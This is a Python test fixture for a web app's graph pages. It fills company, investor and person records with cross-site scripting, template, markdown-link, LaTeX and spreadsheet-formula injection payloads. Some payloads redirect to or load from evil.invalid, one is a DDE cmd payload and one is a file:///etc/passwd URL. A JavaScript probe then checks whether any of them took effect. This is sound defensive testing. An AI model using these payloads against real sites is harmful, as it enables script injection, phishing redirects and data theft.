"""Names that try to be more than text, a graph full of them, and the questions to ask of a page that shows it.

Whatever a payload manages to make carries one of the marks below, so that a page can be asked for them alone.
"""

from __future__ import annotations

from typing import Any

from graph.model import Batch, Entity, Source, Tie

_RUN = "window.__xss=1;alert(1)"
PAYLOADS = {
    "script": f"<script data-xss>{_RUN}</script>",
    "img": f"<img data-xss src=x onerror={_RUN}>",
    "img remote": "<img data-xss src=//evil.invalid/p.png>",
    "svg": f"<svg data-xss onload={_RUN}>",
    "svg animate": f"<svg data-xss><animate onbegin={_RUN} attributeName=x dur=1s>",
    "iframe": f'<iframe data-xss srcdoc="<script>parent.{_RUN}</script>">',
    "details": f"<details data-xss open ontoggle={_RUN}>x",
    "style": "<style data-xss>body{display:none}</style>",
    "base": "<base data-xss href=//evil.invalid/>",
    "meta": "<meta data-xss http-equiv=refresh content='0;url=//evil.invalid/'>",
    "form": "<form data-xss action=//evil.invalid/><button>Sign in</button>",
    "end of title": f"</title><script data-xss>{_RUN}</script>",
    "end of script": f"</script><script data-xss>{_RUN}</script>",
    "end of svg": f"]]></text></svg><script data-xss>{_RUN}</script>",
    "end of attribute": f"\"' data-xss autofocus onfocus={_RUN} x='",
    "end of string": f"';{_RUN};//\\\";{_RUN};//`${{{_RUN}}}`",
    "comment": f"--><img data-xss src=x onerror={_RUN}><!--",
    "entities": f"&lt;img data-xss src=x onerror={_RUN}&gt;&#60;img data-xss src=x onerror={_RUN}&#62;",
    "link": f"[xss-link](javascript:{_RUN})",
    "link of data": f"[xss-link](data:text/html;base64,PHNjcmlwdD4=) <javascript:{_RUN}>",
    "link with breaks": f"[xss-link](java\tscript:{_RUN}) [xss-link](&#106;avascript:{_RUN})",
    "link away": "[xss-link](https://evil.invalid/a) https://evil.invalid/b www.evil.invalid <x@evil.invalid>",
    "reference": "[xss-link][1] [1]: https://evil.invalid/r",
    "picture": "![xss-picture](https://evil.invalid/p.png)",
    "heading": "x\n# xss-heading\n\n| a | b |\n|---|---|\n| xss-cell | 1 |",
    "code": f"```\n</code><img data-xss src=x onerror={_RUN}>\n```",
    "template": "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} #{7*7} <%= 7*7 %> {b} {{7*7}}",
    "latex": "$\\href{javascript:window.__xss=1}{xss-latex}$ $$\\includegraphics{//evil.invalid/p.png}$$",
    "directives": ":material/skull: :red[xss-red] :blue-badge[xss-badge] :small[xss-small] :smiley: :streamlit:",
    "right to left": "\u202exss-rtl\u202c \u2066x\u2069 \u200bzero\u200bwidth",
    "control": "nul\x00 bell\x07 esc\x1b[31m del\x7f",
    "long": "W" * 5_000,
    "formula": '=HYPERLINK("//evil.invalid/"&A1,"x")',
    "formula later": "x;@SUM(1+1)*cmd|' /C calc'!A0",
}  # fmt: skip
URLS = (
    "javascript:window.__xss=1", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "//evil.invalid/x", 'https://fine.invalid/"><img data-xss src=x onerror=alert(1)>',
    "https://fine.invalid/)[xss-link](javascript:alert(1)", "https://fine.invalid/> <img data-xss src=x>",
    "https://fine.invalid/\nonclick=alert(1)", "file:///etc/passwd",
)  # fmt: skip

FOUND = """() => {
  const all = selector => [...document.querySelectorAll(selector)];
  const words = (selector, text) => all(selector).filter(each => (each.textContent || "").includes(text));
  const addresses = all("a[href], area[href], form[action], iframe[src], img[src], image, use, script[src], link[href]")
    .map(each => each.getAttribute("href") || each.getAttribute("xlink:href") || each.getAttribute("src")
      || each.getAttribute("action") || "");
  const handlers = all("*").filter(each => [...each.attributes].some(one => /^on/i.test(one.name)));
  return {
    ran: window.__xss === undefined ? [] : ["window.__xss"],
    marked: all("[data-xss]").map(each => each.outerHTML.slice(0, 200)),
    addresses: addresses.filter(each =>
      /evil\\.invalid/i.test(each) && !/^https:\\/\\/fine/.test(each)
      || /^[\\s\\u0000-\\u001f]*(javascript|vbscript|file):/i.test(each)
      || /^[\\s\\u0000-\\u001f]*data:text/i.test(each)),
    handlers: handlers.map(each => each.outerHTML.slice(0, 200)).filter(each => /__xss|alert/.test(each)),
    links: words("a", "xss-link").filter(each => each.textContent.trim() === "xss-link").map(each => each.outerHTML),
    marks: [...words("h1", "xss-heading"), ...words("td", "xss-cell"), ...words(".katex", "xss-latex")]
      .filter(each => !/[#|$]/.test(each.textContent)).map(each => each.outerHTML.slice(0, 200)),
    coloured: all("span, em, strong").filter(each => /^xss-(red|badge|small)$/.test(each.textContent.trim()))
      .map(each => each.outerHTML.slice(0, 200)),
    icons: all("[data-testid=stIconMaterial]").filter(each => each.textContent === "skull").map(each => each.outerHTML),
  };
}"""
"""Asked of a page: everything there that a payload made, by sort; all empty on a page that is safe."""


def hostile_graph() -> Batch:
    """A company ``hub`` tied to an entity of each payload, by supply, ownership, money and boards."""
    names = list(PAYLOADS.values())
    kinds = ("company", "investor", "person")
    entities = [
        Entity("hub", f"Hub {PAYLOADS['img']}", "company", (PAYLOADS["link"],), description=PAYLOADS["svg"])
    ]
    ties: list[Tie] = []
    sources: list[Source] = []
    for number, name in enumerate(names):
        key, kind, source = f"e{number:02}", kinds[number % 3], f"s{number:02}"
        entities.append(
            Entity(
                key,
                name,
                kind,
                (f"{name} too",),
                None,
                None,
                (name[:200],),
                name,
                note=name,
            )
        )
        url = URLS[number % len(URLS)]
        sources.append(Source(source, name, f"{name} says so", "2024-05", url))
        cited: dict[str, Any] = {"role": name, "note": name, "product": name, "sources": (source,)}
        if kind == "person":
            ties.append(Tie(f"b{number:02}", key, "BOARD_MEMBER_OF", "hub", "active", "2020", **cited))
            ties.append(Tie(f"c{number:02}", key, "BOARD_MEMBER_OF", "e00", "active", "2020", **cited))
        else:
            ties.append(
                Tie(
                    f"s{number:02}",
                    "hub",
                    "SUPPLIES",
                    key,
                    "active",
                    "2024",
                    share=0.01,
                    share_basis="revenue",
                    **cited,
                )
            )
            ties.append(
                Tie(
                    f"o{number:02}",
                    key,
                    "OWNS",
                    "hub",
                    "active",
                    "2024",
                    share=0.02,
                    share_basis="equity",
                    **cited,
                )
            )
        if kind == "investor":
            ties.append(
                Tie(
                    f"i{number:02}",
                    key,
                    "INVESTED_IN",
                    "hub",
                    "completed",
                    "2024",
                    amount_usd=5,
                    round=name,
                    **cited,
                )
            )
            ties.append(Tie(f"p{number:02}", "hub", "INVESTED_IN", key, "planned", "2024", **cited))
    # Two that may be one, for the page of duplicates.
    entities += [Entity("d1", f"{PAYLOADS['img']} Ltd", "company"), Entity("d2", PAYLOADS["img"], "company")]
    return Batch(tuple(entities), tuple(ties), tuple(sources))
